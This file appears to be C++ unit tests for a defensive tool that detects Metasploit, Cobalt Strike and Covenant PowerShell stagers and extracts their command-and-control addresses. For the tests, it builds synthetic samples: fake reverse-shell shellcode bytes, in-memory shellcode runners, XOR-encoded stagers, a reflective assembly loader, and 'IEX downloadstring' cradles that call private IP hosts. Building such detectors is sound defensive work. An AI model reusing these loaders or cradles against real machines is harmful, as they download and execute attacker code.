#include "ioc/stager/frameworks.hpp"

#include <catch2/catch.hpp>

#include <fstream>
#include <nlohmann/json.hpp>
#include <string>
#include <string_view>
#include <vector>

#include "ioc/codec/base64.hpp"
#include "ioc/codec/inflate.hpp"
#include "ioc/codec/utf16.hpp"
#include "ioc/stager/empire.hpp"

using ioc::codec::encode_base64;
using ioc::stager::detect_framework;
using ioc::stager::FrameworkMatch;
using ioc::stager::shellcode_fields;

namespace {

using Strings = std::vector<std::string>;

std::optional<FrameworkMatch> detect(const std::vector<std::string>& scripts,
                                     const std::vector<std::string>& binaries = {}) {
  std::vector<std::string_view> s(scripts.begin(), scripts.end());
  std::vector<std::string_view> b(binaries.begin(), binaries.end());
  return detect_framework(s, b);
}

std::string bytes(std::initializer_list<int> list) {
  std::string out;
  for (int b : list) out += static_cast<char>(b);
  return out;
}

// A made-up x86 reverse_tcp stager: block_api-like prologue, then
// push 192.168.1.2; push 0x5c110002 (AF_INET, port 4444).
std::string x86_reverse_tcp() {
  return bytes({0xfc, 0xe8, 0x82, 0x00, 0x00, 0x00, 0x60, 0x89, 0xe5, 0x31, 0xc0, 0x68, 0x33,
                0x32, 0x00, 0x00, 0x68, 0x77, 0x73, 0x32, 0x5f, 0x54, 0x6a, 0x05, 0x68, 0xc0,
                0xa8, 0x01, 0x02, 0x68, 0x02, 0x00, 0x11, 0x5c, 0x89, 0xe6, 0x50, 0xff, 0xd5});
}

// A made-up x64 reverse_tcp stager: mov r12, 0x0500000abb010002 (10.0.0.5:443).
std::string x64_reverse_tcp() {
  return bytes({0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 0xc0, 0x00, 0x00, 0x00, 0x49, 0xbc, 0x02,
                0x00, 0x01, 0xbb, 0x0a, 0x00, 0x00, 0x05, 0x41, 0x54, 0x49, 0x89, 0xe4});
}

// A made-up x86 HTTPS stager: WinINet flags with INTERNET_FLAG_SECURE, the port
// pushed before InternetConnectA's hash, then the URI, User-Agent and host strings.
std::string x86_https_stager(const std::string& host, int port) {
  std::string sc = bytes({0xfc, 0xe8, 0x89, 0x00, 0x00, 0x00, 0x60, 0x89, 0xe5, 0x31, 0xd2, 0x6a,
                          0x03, 0x53, 0x53, 0x68});
  sc += static_cast<char>(port & 0xff);
  sc += static_cast<char>((port >> 8) & 0xff);
  sc += bytes({0x00, 0x00, 0x53, 0x50, 0x68, 0x57, 0x89, 0x9f, 0xc6, 0xff, 0xd5, 0x68,
               0x00, 0x32, 0xe0, 0x84, 0x52, 0x52, 0xe8, 0x06, 0x00, 0x00, 0x00});
  sc += std::string("/Gxyz") + '\0';
  sc += bytes({0x50, 0x68, 0xeb, 0x55, 0x2e, 0x3b, 0xff, 0xd5});
  sc += std::string("User-Agent: Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)\r\n") + '\0';
  sc += bytes({0x6a, 0x00, 0xe8, 0xff, 0xff, 0xff, 0xff});
  sc += host + '\0';
  return sc;
}

std::string xor_with(std::string s, int key) {
  for (char& c : s) c = static_cast<char>(static_cast<unsigned char>(c) ^ key);
  return s;
}

std::string gzip(const std::string& s) {
  auto z = ioc::codec::deflate(s, ioc::codec::Container::kGzip);
  return z ? *z : std::string();
}

// The Metasploit psh runner's structure, in our own words.
std::string msf_inner(const std::string& shellcode) {
  return "function fnA {\n"
         "  Param ($m, $f)\n"
         "  $t = ([AppDomain]::CurrentDomain.GetAssemblies() | Where-Object { "
         "$_.GlobalAssemblyCache }).GetType('Microsoft.Win32.UnsafeNativeMethods')\n"
         "  return $t.GetMethod('GetProcAddress').Invoke($null, @($m, $f))\n"
         "}\n"
         "function fnB {\n"
         "  $d = [AppDomain]::CurrentDomain.DefineDynamicAssembly((New-Object "
         "System.Reflection.AssemblyName('ReflectedDelegate')), 'Run').DefineDynamicModule("
         "'InMemoryModule', $false).DefineType('MyDelegateType', 'Class', "
         "[System.MulticastDelegate])\n"
         "  return $d.CreateType()\n"
         "}\n"
         "[Byte[]]$q = [System.Convert]::FromBase64String(\"" +
         encode_base64(shellcode) +
         "\")\n"
         "$m = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((fnA "
         "kernel32.dll VirtualAlloc), (fnB)).Invoke([IntPtr]::Zero, $q.Length, 0x3000, 0x40)\n";
}

std::string msf_outer(const std::string& inner) {
  return "&([scriptblock]::create((New-Object System.IO.StreamReader(New-Object "
         "System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::"
         "FromBase64String('" +
         encode_base64(gzip(inner)) +
         "'))),[System.IO.Compression.CompressionMode]::Decompress))).ReadToEnd()))";
}

// A Cobalt Strike-style PowerShell stager: XOR-encoded Byte[] and a -bxor loop.
std::string cs_script(const std::string& shellcode, int key, bool names = true) {
  const std::string var = names ? "$var_code" : "$zz";
  return std::string(names ? "Set-StrictMode -Version 2\n$DoIt = @'\n" : "$p = @'\n") +
         std::string(names ? "function func_get_proc_address { param($m, $p) }\n" : "") +
         "[Byte[]]" + var + " = [System.Convert]::FromBase64String('" +
         encode_base64(xor_with(shellcode, key)) + "')\nfor ($x = 0; $x -lt " + var +
         ".Count; $x++) {\n  " + var + "[$x] = " + var + "[$x] -bxor " + std::to_string(key) +
         "\n}\n'@\nIEX " + (names ? "$DoIt" : "$p") + "\n";
}

std::string utf16(const std::string& s) {
  return ioc::codec::encode_utf16(s, ioc::codec::Endian::kLittle);
}

// A stand-in for Covenant's grunt stager assembly: MZ, the type name in
// #Strings, the URL and a base64 User-Agent in the UTF-16 #US heap.
std::string fake_grunt(const std::string& url) {
  std::string pe = "MZ" + std::string(62, '\0') + "GruntStager" + '\0' + "ExecuteStager" + '\0';
  pe += '\x01';  // odd offset, as in the real image
  pe += utf16(url) + std::string(2, '\0');
  pe += utf16(encode_base64("Mozilla/5.0 (Windows NT 6.1) Grunt")) + std::string(2, '\0');
  pe += utf16("VXNlci1BZ2VudA==") + std::string(2, '\0');
  return pe;
}

std::string covenant_script(const std::string& image) {
  auto raw = ioc::codec::deflate(image, ioc::codec::Container::kRaw);
  return "sv o (New-Object IO.MemoryStream);sv d (New-Object IO.Compression.DeflateStream("
         "[IO.MemoryStream][Convert]::FromBase64String('" +
         encode_base64(raw ? *raw : std::string()) +
         "'),[IO.Compression.CompressionMode]::Decompress));sv b (New-Object Byte[](1024));"
         "sv r (gv d).Value.Read((gv b).Value,0,1024);while((gv r).Value -gt 0){(gv o).Value."
         "Write((gv b).Value,0,(gv r).Value);sv r (gv d).Value.Read((gv b).Value,0,1024);}"
         "[Reflection.Assembly]::Load((gv o).Value.ToArray()).EntryPoint.Invoke(0,@(,[string[]]"
         "@()))|Out-Null";
}

std::vector<nlohmann::json> read_jsonl(const std::string& path) {
  std::vector<nlohmann::json> out;
  std::ifstream in(path);
  std::string line;
  while (std::getline(in, line)) {
    if (!line.empty()) out.push_back(nlohmann::json::parse(line));
  }
  return out;
}

}  // namespace

TEST_CASE("shellcode_fields: reverse_tcp sockaddr", "[stager][frameworks]") {
  SECTION("x86") {
    auto m = shellcode_fields(x86_reverse_tcp());
    CHECK(m.hosts == Strings{"192.168.1.2"});
    CHECK(m.ports == Strings{"4444"});
    CHECK(m.urls.empty());
    REQUIRE(m.evidence.size() == 1);
    CHECK(m.evidence[0].find("x86") != std::string::npos);
  }
  SECTION("x64") {
    auto m = shellcode_fields(x64_reverse_tcp());
    CHECK(m.hosts == Strings{"10.0.0.5"});
    CHECK(m.ports == Strings{"443"});
    REQUIRE(m.evidence.size() == 1);
    CHECK(m.evidence[0].find("x64") != std::string::npos);
  }
  SECTION("a port of 0 or an address of 0.0.0.0 is not a sockaddr") {
    CHECK(shellcode_fields(bytes({0x68, 0xc0, 0xa8, 0x01, 0x02, 0x68, 0x02, 0x00, 0x00, 0x00}))
              .hosts.empty());
    CHECK(shellcode_fields(bytes({0x68, 0x00, 0x00, 0x00, 0x00, 0x68, 0x02, 0x00, 0x11, 0x5c}))
              .hosts.empty());
  }
}

TEST_CASE("shellcode_fields: HTTP(S) stager strings", "[stager][frameworks]") {
  SECTION("https with the secure flag") {
    auto m = shellcode_fields(x86_https_stager("cdn.example.com", 8443));
    CHECK(m.urls == Strings{"https://cdn.example.com:8443/Gxyz"});
    CHECK(m.hosts == Strings{"cdn.example.com"});
    CHECK(m.ports == Strings{"8443"});
    CHECK(m.user_agents == Strings{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)"});
  }
  SECTION("plain http: no secure flag, port 80") {
    std::string sc = x86_https_stager("10.9.8.7", 80);
    const std::string flags = bytes({0x68, 0x00, 0x32, 0xe0, 0x84});
    sc.replace(sc.find(flags), flags.size(), bytes({0x68, 0x00, 0x02, 0x60, 0x84}));
    auto m = shellcode_fields(sc);
    CHECK(m.urls == Strings{"http://10.9.8.7:80/Gxyz"});
    CHECK(m.hosts == Strings{"10.9.8.7"});
    CHECK(m.ports == Strings{"80"});
  }
  SECTION("file names and short words are not hosts") {
    const std::string sc = std::string("wininet") + '\0' + "kernel32.dll" + '\0' + "ws2_32" + '\0';
    auto m = shellcode_fields(sc);
    CHECK(m.hosts.empty());
    CHECK(m.urls.empty());
  }
  SECTION("nothing recognisable") {
    auto m = shellcode_fields(std::string(1000, '\x90'));
    CHECK(m.hosts.empty());
    CHECK(m.ports.empty());
    CHECK(m.urls.empty());
    CHECK(m.user_agents.empty());
    CHECK(shellcode_fields("").evidence.empty());
  }
}

TEST_CASE("detect_framework: Metasploit psh", "[stager][frameworks]") {
  SECTION("the inner runner with its shellcode") {
    auto m = detect({msf_inner(x86_reverse_tcp())});
    REQUIRE(m.has_value());
    CHECK(m->name == "metasploit");
    CHECK(m->variant == "psh");
    CHECK(m->confidence >= 0.9);
    CHECK(m->hosts == Strings{"192.168.1.2"});
    CHECK(m->ports == Strings{"4444"});
    CHECK(m->evidence.front() == "VirtualAlloc + GetDelegateForFunctionPointer");
  }
  SECTION("only the gzip wrapper given: the inner layer is inflated here") {
    auto m = detect({msf_outer(msf_inner(x64_reverse_tcp()))});
    REQUIRE(m.has_value());
    CHECK(m->name == "metasploit");
    CHECK(m->variant == "psh");
    CHECK(m->hosts == Strings{"10.0.0.5"});
    CHECK(m->ports == Strings{"443"});
  }
  SECTION("the wrapper around something else is a weak match") {
    auto m = detect({msf_outer("Write-Output 'just a prompt'")});
    REQUIRE(m.has_value());
    CHECK(m->name == "metasploit");
    CHECK(m->confidence == Approx(0.5));
    CHECK(m->hosts.empty());
  }
  SECTION("psh-net: Add-Type with DllImport") {
    const std::string net =
        "$c = @\"\n[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc(IntPtr "
        "a, "
        "uint s, uint t, uint p);\n[DllImport(\"kernel32.dll\")] public static extern IntPtr "
        "CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n\"@\n$w = Add-Type "
        "-MemberDefinition $c -Name W -PassThru\n[Byte[]]$sc = [Convert]::FromBase64String('" +
        encode_base64(x86_reverse_tcp()) + "')\n";
    auto m = detect({net});
    REQUIRE(m.has_value());
    CHECK(m->name == "metasploit");
    CHECK(m->variant == "psh-net");
    CHECK(m->hosts == Strings{"192.168.1.2"});
  }
  SECTION("a PE handed over is not read as shellcode") {
    const std::string pe =
        "MZ" + std::string(60, '\0') + "System.Net" + '\0' + "evil.example.com" + '\0';
    auto m = detect({msf_inner("")}, {pe});
    REQUIRE(m.has_value());
    CHECK(m->hosts.empty());
  }
  SECTION("shellcode given as a binary artifact") {
    std::string inner = msf_inner("");
    auto m = detect({inner}, {x86_https_stager("c2.example.org", 443)});
    REQUIRE(m.has_value());
    CHECK(m->urls == Strings{"https://c2.example.org:443/Gxyz"});
  }
}

TEST_CASE("detect_framework: Metasploit web_delivery", "[stager][frameworks]") {
  const std::string wd =
      "[System.Net.ServicePointManager]::ServerCertificateValidationCallback={$true};"
      "$x=new-object net.webclient;$x.proxy=[Net.WebRequest]::GetSystemWebProxy();"
      "$x.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;"
      "IEX $x.downloadstring('http://10.0.0.9:8080/wDlv');";
  auto m = detect({wd});
  REQUIRE(m.has_value());
  CHECK(m->name == "metasploit");
  CHECK(m->variant == "web_delivery");
  CHECK(m->urls == Strings{"http://10.0.0.9:8080/wDlv"});
  CHECK(m->hosts == Strings{"10.0.0.9"});
  CHECK(m->ports == Strings{"8080"});
  CHECK(m->evidence.size() == 2);

  SECTION("a bare cradle is nobody's in particular") {
    CHECK_FALSE(detect({"IEX ((new-object net.webclient).downloadstring('http://1.2.3.4/a'))"})
                    .has_value());
  }
  SECTION("default ports come from the scheme") {
    std::string t = wd;
    t.replace(t.find("http://10.0.0.9:8080"), 20, "https://dl.example.net");
    auto h = detect({t});
    REQUIRE(h.has_value());
    CHECK(h->hosts == Strings{"dl.example.net"});
    CHECK(h->ports == Strings{"443"});
  }
}

TEST_CASE("detect_framework: Cobalt Strike PowerShell stager", "[stager][frameworks]") {
  const std::string sc = x86_https_stager("update.example.com", 443);
  SECTION("key 35 from the script, fields from the decoded Byte[]") {
    auto m = detect({cs_script(sc, 35)});
    REQUIRE(m.has_value());
    CHECK(m->name == "cobaltstrike");
    CHECK(m->variant == "powershell");
    CHECK(m->confidence >= 0.9);
    CHECK(m->urls == Strings{"https://update.example.com:443/Gxyz"});
    CHECK(m->hosts == Strings{"update.example.com"});
    CHECK(m->ports == Strings{"443"});
    CHECK(m->user_agents == Strings{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)"});
    CHECK(m->evidence.front() == "Byte[] from FromBase64String decoded with -bxor 35");
  }
  SECTION("another key, written in hex, without the template's names") {
    std::string script = cs_script(sc, 0x5a, false);
    const std::string dec = "-bxor " + std::to_string(0x5a);
    script.replace(script.find(dec), dec.size(), "-bxor 0x5A");
    auto m = detect({script});
    REQUIRE(m.has_value());
    CHECK(m->name == "cobaltstrike");
    CHECK(m->confidence < 0.9);
    CHECK(m->hosts == Strings{"update.example.com"});
  }
  SECTION("the still-encoded bytes handed over as a binary are decoded with the key") {
    std::string script = cs_script("", 35);
    auto m = detect({script}, {xor_with(sc, 35)});
    REQUIRE(m.has_value());
    CHECK(m->hosts == Strings{"update.example.com"});
  }
  SECTION("inside the Metasploit-like gzip wrapper") {
    auto m = detect({msf_outer(cs_script(sc, 35))});
    REQUIRE(m.has_value());
    CHECK(m->name == "cobaltstrike");
    CHECK(m->hosts == Strings{"update.example.com"});
  }
  SECTION("a download cradle next to template names") {
    auto m = detect({"IEX ((new-object net.webclient).downloadstring('http://10.1.1.1:80/a'))",
                     "$var_runme = 1"});
    REQUIRE(m.has_value());
    CHECK(m->name == "cobaltstrike");
    CHECK(m->variant == "download_cradle");
    CHECK(m->urls == Strings{"http://10.1.1.1:80/a"});
    CHECK(m->ports == Strings{"80"});
  }
}

TEST_CASE("detect_framework: Covenant launcher", "[stager][frameworks]") {
  const std::string image = fake_grunt("http://172.18.39.8:80");
  SECTION("script with the deflated assembly") {
    auto m = detect({covenant_script(image)});
    REQUIRE(m.has_value());
    CHECK(m->name == "covenant");
    CHECK(m->variant == "launcher");
    CHECK(m->confidence >= 0.9);
    CHECK(m->urls == Strings{"http://172.18.39.8:80"});
    CHECK(m->hosts == Strings{"172.18.39.8"});
    CHECK(m->ports == Strings{"80"});
    CHECK(m->user_agents == Strings{"Mozilla/5.0 (Windows NT 6.1) Grunt"});
  }
  SECTION("the assembly alone, as a binary artifact") {
    auto m = detect({}, {image});
    REQUIRE(m.has_value());
    CHECK(m->name == "covenant");
    CHECK(m->confidence < 0.9);
    CHECK(m->urls == Strings{"http://172.18.39.8:80"});
  }
  SECTION("a launcher whose payload is not the grunt") {
    auto m = detect({covenant_script("MZ" + std::string(100, '\0'))});
    REQUIRE(m.has_value());
    CHECK(m->name == "covenant");
    CHECK(m->urls.empty());
  }
}

TEST_CASE("detect_framework: nothing to find", "[stager][frameworks]") {
  CHECK_FALSE(detect({}).has_value());
  CHECK_FALSE(detect({""}, {""}).has_value());
  CHECK_FALSE(detect({"Get-ChildItem C:\\ | Out-Null"}).has_value());
  CHECK_FALSE(detect({"[Convert]::FromBase64String('////////////////////////')"}).has_value());
  // An Empire launcher is empire.hpp's business, not one of these frameworks.
  const auto lines = read_jsonl(IOC_TEST_DATA_DIR "/empire-launchers.jsonl");
  int checked = 0;
  for (const auto& line : lines) {
    if (!line.contains("script")) continue;
    CHECK_FALSE(detect({line["script"].get<std::string>()}).has_value());
    ++checked;
  }
  CHECK(checked == 54);
}

TEST_CASE("detect_framework: bounded on hostile input", "[stager][frameworks]") {
  std::string big;
  while (big.size() < 1024 * 1024) big += "FromBase64String('H4sIAAAAAAAA') -bxor ";
  CHECK_FALSE(detect({big}, {big}).has_value());
  std::string many_bombs;
  const std::string bomb = encode_base64(gzip(std::string(4 * 1024 * 1024, 'A')));
  for (int i = 0; i < 40; ++i)
    many_bombs += "[scriptblock]::create(FromBase64String('" + bomb + "'))";
  CHECK_FALSE(detect({many_bombs}).has_value());  // text, but no runner markers after inflating
  auto fields = shellcode_fields(std::string(8 * 1024 * 1024, '\x68'));
  CHECK(fields.hosts.empty());
}

TEST_CASE("detect_framework: real command lines of the shared corpus",
          "[stager][frameworks][corpus]") {
  const std::string path = IOC_SOURCE_DIR "/../shared/corpus/psdecode/real-cmdlines.jsonl";
  std::ifstream probe(path);
  if (!probe) {
    WARN("skipped: " << path << " is absent");
    return;
  }
  int metasploit = 0;
  int covenant = 0;
  for (const auto& line : read_jsonl(path)) {
    const std::string framework = line["framework"].get<std::string>();
    const std::string cmdline = line["cmdline"].get<std::string>();
    INFO(line["id"].get<std::string>());
    auto m = detect({cmdline});
    if (framework == "Metasploit") {
      REQUIRE(m.has_value());
      CHECK(m->name == "metasploit");
      CHECK(m->variant == "psh");
      ++metasploit;
      if (cmdline.find("H4sIAJ6QcF8C") != std::string::npos) {
        CHECK(m->hosts == Strings{"10.0.2.17"});
        CHECK(m->ports == Strings{"4444"});
      } else if (cmdline.find("H4sIAIuvyFwC") != std::string::npos) {
        CHECK(m->hosts == Strings{"10.0.2.19"});
        CHECK(m->ports == Strings{"4444"});
      } else {
        CHECK(m->hosts.empty());  // a credential prompt, no shellcode
      }
    } else if (framework == "Covenant") {
      REQUIRE(m.has_value());
      CHECK(m->name == "covenant");
      CHECK(m->urls == Strings{"http://172.18.39.8:80"});
      CHECK(m->hosts == Strings{"172.18.39.8"});
      CHECK(m->ports == Strings{"80"});
      CHECK(m->user_agents ==
            Strings{"Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) "
                    "Chrome/41.0.2228.0 Safari/537.36"});
      ++covenant;
    } else {
      CHECK_FALSE(m.has_value());
    }
  }
  CHECK(metasploit == 3);
  CHECK(covenant == 1);
}
